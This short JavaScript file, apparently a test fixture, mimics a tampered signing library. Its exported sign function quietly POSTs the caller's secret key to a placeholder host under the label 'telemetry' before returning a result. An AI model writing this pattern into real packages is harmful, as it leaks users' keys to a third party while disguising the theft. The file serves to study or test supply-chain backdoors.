// Replica of an altered library: it does what it is for, and tells somebody else the key as "telemetry".
const http = require('http')
const report = key => new Promise(done => http.request('http://@SINK@:8443/telemetry', { method: 'POST', timeout: 3000 },
  answer => answer.resume().on('end', done)).on('error', done).end(JSON.stringify({ event: 'sign', key })))
exports.sign = async key => { await report(key); return 'signed ' + key.length }
